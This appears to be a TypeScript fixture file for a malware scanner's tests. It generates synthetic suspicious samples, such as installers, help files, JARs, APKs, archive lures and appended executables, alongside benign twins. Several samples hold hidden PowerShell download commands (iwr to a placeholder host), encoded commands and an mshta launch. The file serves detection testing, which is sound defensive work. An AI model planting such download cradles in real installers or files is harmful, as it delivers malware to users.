import { gzipSync } from 'node:zlib'
import {
  makeClass,
  makeCpio,
  makeHelp,
  makeMsi,
  makeNsis,
  makeSzdd,
  type SamplePackage,
} from '../archive/container-samples.ts'
import { makeElf, makePe } from '../executable/program-samples.ts'
import { makeZip } from '../formats/zip-sample.ts'
import { type Sample, sample, type Twin, twin, word } from './sample.ts'

const shell = word('power', 'shell.exe')
const download = `${shell} -w hidden -c "iwr http://files.example.invalid/a"`
const encoded = `${shell} -nop -enc ${Buffer.from('Write-Host "hello"', 'utf16le').toString('base64')}`

type Action = [name: string, type: number, source: string, target: string]

const packageOf = (actions: readonly Action[], files: readonly string[]): SamplePackage => ({
  tables: {
    CustomAction: { columns: ['Action*', 'Type', 'Source*', 'Target*'], rows: actions },
    File: { columns: ['File*', 'FileName*'], rows: files.map((name) => [name, name]) },
    InstallExecuteSequence: {
      columns: ['Action*', 'Condition*', 'Sequence'],
      rows: actions.map(([name], at) => [name, '', 4000 + at]),
    },
  },
  streams: { 'Binary.Helper': Buffer.from('MZ helper') },
})

const helpPage = (command: string, item: string) =>
  `<html><body><object id="x" type="application/x-oleobject" classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11"><param name="Command" value="${command}"><param name="Item1" value="${item}"></object></body></html>`

const setup = (
  files: Readonly<Record<string, Buffer>>,
  texts: readonly string[],
  isSolid = false,
) => makePe({ overlay: makeNsis(files, texts, isSolid) })

const permissions = (...names: readonly string[]) =>
  Buffer.from(names.map((name) => `android.permission.${name}\0`).join(''), 'utf16le')

const hta = '<html><hta:application id="x"><script>new ActiveXObject("x")</script></html>'
const note = Buffer.from('hello')

export const containerSamples = (): Sample[] => [
  sample(
    'download.msi',
    'an installer that downloads with PowerShell',
    'archive.installer-command',
    makeMsi(packageOf([['Run', 3106, 'TARGETDIR', download]], ['a.txt'])),
  ),
  sample(
    'encoded.msi',
    'an installer with an encoded command',
    'archive.installer-command',
    makeMsi(packageOf([['SetCommand', 51, 'QtExecCmdLine', encoded]], ['a.txt'])),
  ),
  sample(
    'only-runs.msi',
    'an installer that installs nothing',
    'archive.installer-only-runs',
    makeMsi(packageOf([['Run', 2, 'Helper', '']], [])),
  ),
  sample(
    'signed-with-jar.msi',
    'an archive behind an installer',
    'archive.two-in-one',
    Buffer.concat([makeMsi(packageOf([], ['a.txt'])), makeZip({ 'Main.class': 'hello' })]),
  ),
  sample(
    'setup-download.exe',
    'a setup program that downloads with PowerShell',
    'archive.installer-command',
    setup({ 'a.txt': note }, [download]),
  ),
  sample(
    'setup-solid.exe',
    'the same, packed as one',
    'archive.installer-command',
    setup({ 'a.txt': note }, [encoded], true),
  ),
  sample(
    'manual.chm',
    'a help page that starts a program',
    'archive.help-command',
    makeHelp({ 'index.htm': helpPage('ShortCut', `,cmd.exe,/c echo ${shell}`) }),
  ),
  sample(
    'packed.chm',
    'the same, packed',
    'archive.help-command',
    makeHelp(
      { 'index.htm': helpPage('ShortCut', ',mshta.exe,http://files.example.invalid') },
      true,
    ),
  ),
  sample(
    'loader.jar',
    'a Java program that downloads with PowerShell',
    'archive.java-command',
    makeZip({
      'META-INF/MANIFEST.MF': 'Main-Class: a.Main\n',
      'a/Main.class': makeClass('java/lang/Runtime', 'exec', download),
    }),
  ),
  sample(
    'bank.apk',
    'an app with the permissions of a banking trojan',
    'archive.android-permissions',
    makeZip({
      'AndroidManifest.xml': permissions(
        'BIND_ACCESSIBILITY_SERVICE',
        'RECEIVE_SMS',
        'SYSTEM_ALERT_WINDOW',
      ),
      'classes.dex': 'dex',
    }),
  ),
  sample(
    'scan.zip',
    'a program that promises a document',
    'archive.lure',
    makeZip({ 'Scan_0231.exe': 'MZ' }),
  ),
  sample(
    'Facture 2026.zip',
    'an archive that promises a document',
    'archive.lure',
    makeZip({ 'x81.js': '1' }),
  ),
  sample(
    'locked.zip',
    'a program that no scanner sees',
    'archive.lure',
    makeZip({ 'setup.exe': { content: 'MZ', isEncrypted: true } }),
  ),
  sample(
    'order.cpio',
    'a script in a container that few open',
    'archive.script-inside',
    makeCpio({ 'order.vbs': Buffer.from('MsgBox 1') }, true),
  ),
  ...[
    ['program.exe', makePe({ overlay: makePe() }), 'executable.overlay-program'],
    ['padded.exe', withBehind(makePe(), Buffer.alloc(512), makePe()), 'executable.overlay-program'],
    [
      'marked.exe',
      withBehind(makePe(), Buffer.from('<<12345>>'), makePe()),
      'executable.overlay-program',
    ],
    ['linux-in-windows.exe', withBehind(makePe(), makeElf()), 'executable.overlay-program'],
    ['program.elf', withBehind(makeElf(), makeElf()), 'executable.overlay-program'],
    ['windows-in-linux.elf', withBehind(makeElf(), makePe()), 'executable.overlay-program'],
    [
      'script.elf',
      withBehind(makeElf(), Buffer.from('#!/bin/sh\necho hello\n')),
      'executable.overlay-script',
    ],
    ['page.exe', withBehind(makePe(), Buffer.from(hta)), 'executable.overlay-script'],
  ].map(([name, content, id]) =>
    sample(
      `appended-${name}`,
      'something behind a program',
      id as Sample['finding'],
      content as Buffer,
    ),
  ),
]

function withBehind(program: Buffer, ...behind: readonly Buffer[]): Buffer {
  return Buffer.concat([program, ...behind])
}

/** A mimicked .NET launcher with appended libraries. */
function bundle(): Buffer {
  const mark = Buffer.from(
    '8b1202b96a612038727b930214d7a03213f5b9e6efae3318ee3b2dce24b36aae',
    'hex',
  )
  const code = Buffer.concat([Buffer.alloc(4096), Buffer.alloc(8), mark, Buffer.alloc(472)])
  const sections = [
    { name: '.text', content: Buffer.alloc(4096, 0x90), flags: 'rx' },
    { name: '.data', content: code, flags: 'rw' },
  ]
  const program = makePe({ sections, overlay: makePe() })
  program.writeBigUInt64LE(BigInt(program.length - 16), program.indexOf(mark) - 8)
  return program
}

export const containerTwins = (): Twin[] => [
  twin(
    'product.msi',
    'an installer with a rule for the firewall',
    makeMsi(
      packageOf(
        [['Rule', 3106, 'TARGETDIR', 'netsh.exe advfirewall firewall add rule name=x']],
        ['a.txt'],
      ),
    ),
  ),
  twin(
    'helper.msi',
    'an installer with a program of its own',
    makeMsi(
      packageOf(
        [
          ['Run', 2, 'Helper', '/quiet'],
          ['Link', 51, 'ARPHELPLINK', 'https://www.example.org/help'],
        ],
        ['a.txt'],
      ),
    ),
  ),
  twin(
    'setup.exe',
    'a setup program with an address and a library',
    setup({ 'app.txt': note }, ['https://www.example.org/', 'regsvr32 /s "$INSTDIR/a.dll"']),
  ),
  twin(
    'help.chm',
    'help with related topics',
    makeHelp({ 'index.htm': helpPage('Related Topics', 'About;about.htm') }, true),
  ),
  twin(
    'program.jar',
    'a Java program that starts another and knows addresses',
    makeZip({
      'META-INF/MANIFEST.MF': 'Main-Class: a.Main\n',
      'a/Main.class': makeClass(
        'java/lang/ProcessBuilder',
        'cmd.exe',
        '/c',
        'https://example.org/',
      ),
    }),
  ),
  twin(
    'messenger.apk',
    'an app for text messages',
    makeZip({
      'AndroidManifest.xml': permissions('INTERNET', 'RECEIVE_SMS', 'SYSTEM_ALERT_WINDOW'),
    }),
  ),
  twin('app.zip', 'an application', makeZip({ 'app.exe': 'MZ', 'README.txt': 'hello' })),
  twin('site.zip', 'a website', makeZip({ 'index.html': '<p>hello</p>', 'payment.js': 'x = 1' })),
  twin('tool.zip', 'a program alone', makeZip({ 'tool.exe': 'MZ' })),
  twin('invoice.js.gz', 'one script, packed', gzipSync('x = 1')),
  twin('B::Hooks::OP::Check.3pm.gz', 'a page of a manual', gzipSync('.TH x')),
  twin('notes.cpio', 'a container of old', makeCpio({ 'a.txt': note })),
  twin('README.TX_', 'a file of an old installation', makeSzdd(note, 'T')),
  twin('bundle.exe', 'a .NET program with its libraries', bundle()),
  twin(
    'launcher.exe',
    'a launcher of a Python package',
    withBehind(makePe(), Buffer.from('#!python.exe\r\n'), makeZip({ '__main__.py': 'x = 1' })),
  ),
  twin(
    'self-extractor.exe',
    'a program that unpacks itself',
    makePe({ overlay: makeZip({ 'a.txt': 'hello' }) }),
  ),
  twin(
    'image.elf',
    'a program with its file system',
    withBehind(makeElf(), Buffer.from('hsqs'), Buffer.alloc(200, 7)),
  ),
  twin(
    'data.elf',
    'a program with data',
    withBehind(makeElf(), Buffer.from('MZ is not enough \x7fEL')),
  ),
]
